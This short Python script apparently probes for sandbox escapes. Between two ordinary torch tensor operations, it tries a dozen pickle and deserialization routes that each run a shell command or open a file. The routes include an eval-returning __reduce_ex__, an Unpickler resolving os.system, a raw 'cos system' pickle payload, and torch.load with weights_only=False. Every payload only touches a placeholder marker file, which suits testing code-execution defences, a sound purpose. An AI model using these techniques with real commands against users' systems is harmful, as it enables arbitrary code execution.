import torch

before = torch.zeros(2, 3)
import copy, pickle, io
class A:
    def __reduce_ex__(self, n):
        return (eval, ("open('@MARKER@', 'w')",))
    def __getstate__(self):
        return open("@MARKER@", "w")
    def __setstate__(self, state):
        __import__("os").system("touch @MARKER@")
    def __getnewargs_ex__(self):
        return (("touch @MARKER@",), {})
class P(pickle.Unpickler):
    def find_class(self, module, name):
        return __import__("os").system
    def persistent_load(self, pid):
        return open("@MARKER@", "w")
DATA = b"cos\nsystem\n(S'touch @MARKER@'\ntR."
for run in (
    lambda: copy.copy(A()), lambda: copy.deepcopy([A()]), lambda: copy.replace(A()),
    lambda: pickle.loads(DATA), lambda: P(io.BytesIO(DATA)).load(),
    lambda: torch.load(io.BytesIO(DATA), weights_only=False),
    lambda: torch.serialization._legacy_load(io.BytesIO(DATA), "cpu", pickle),
    lambda: torch.nn.Module().load_state_dict(torch.load(io.BytesIO(DATA), pickle_module=pickle)),
    lambda: torch.multiprocessing.reductions.ForkingPickler.loads(DATA),
    lambda: torch.nn.Module.__setstate__(A(), {}),
    lambda: before.__setstate__((before, None)),
    lambda: before.__reduce_ex__(2)[0].__globals__["os"].system("touch @MARKER@"),
):
    try:
        run()
    except Exception:
        pass
after = before.sum(dim=0)
